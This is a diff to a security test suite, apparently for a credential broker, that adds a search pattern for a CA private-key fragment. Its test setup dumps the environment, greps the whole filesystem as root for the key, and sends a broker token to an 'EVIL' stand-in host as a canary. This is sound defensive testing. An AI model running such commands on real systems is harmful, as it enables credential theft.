@@ -63,6 +63,7 @@ let placeholderA = "";
 /** The git host's access log before B's turn. */
 let logBeforeB = "";
 let caKeySlice = "";
+let caKeyLine = "";
 let caKeyHex = "";
 let caCertSlice = "";
 
@@ -178,6 +179,9 @@ beforeAll(async () => {
   // P-256 PKCS#8 key holds it at bytes 36..68, base64 characters 48..90) and in hex.
   const pem = readFileSync(join(p.stateDir, "broker", "ca-key.pem"), "utf8");
   const body = pem.replace(/-----[^-]+-----/g, "").replace(/\s+/g, "");
+  // A PEM wraps at 64 characters: the scalar's part of the second line, and the whole of it
+  // unwrapped (a key copied into one line, an env var, JSON).
+  caKeyLine = body.slice(64, 90);
   caKeySlice = body.slice(48, 88);
   caKeyHex = Buffer.from(body, "base64").subarray(36, 68).toString("hex");
   const cert = readFileSync(join(p.stateDir, "broker", "ca.pem"), "utf8").split("\n");
@@ -193,7 +197,7 @@ beforeAll(async () => {
       "W=$(pwd); mkdir -p out",
       `env > ${W}/env.txt`,
       `git -c credential.helper= -c http.extraHeader="Authorization: Basic ${basicA}" ls-remote ${gitUrl("owner/app")} > ${W}/pinned.txt 2>&1; echo "exit $?" >> ${W}/pinned.txt`,
-      `sudo grep -rlsI --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev -e '${unmatching(caKeySlice)}' -e '${unmatching(caKeyHex)}' / > ${W}/ca-key.txt; echo "exit $?" >> ${W}/ca-key.txt`,
+      `sudo grep -rlsI --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev -e '${unmatching(caKeyLine)}' -e '${unmatching(caKeySlice)}' -e '${unmatching(caKeyHex)}' / > ${W}/ca-key.txt; echo "exit $?" >> ${W}/ca-key.txt`,
       `sudo grep -c -F -e '${caCertSlice}' "$SSL_CERT_FILE" > ${W}/ca-cert.txt 2>&1; echo "$SSL_CERT_FILE" >> ${W}/ca-cert.txt`,
       'cd "$W" && git add -f out && git commit -qm results',
       `git -c http.extraHeader="Authorization: Bearer $LAZY_BROKER_GITHUB" ls-remote http://${EVIL}:${evil.port}/x.git > /tmp/canary.txt 2>&1`,
@@ -363,6 +367,7 @@ describe("2. SNI, Host and the terminator, from a hostile local process", () => 
 describe("3. the CA key from inside a task container", () => {
   test("searched for as root over the whole filesystem: nowhere; the CA certificate is in the bundle", () => {
     expect(caKeySlice).toHaveLength(40);
+    expect(caKeyLine).toHaveLength(26);
     const found = show(B, "ca-key.txt");
     // grep exits 1: nothing found (2 would be an error, 0 a hit).
     expect(found.trim()).toBe("exit 1");
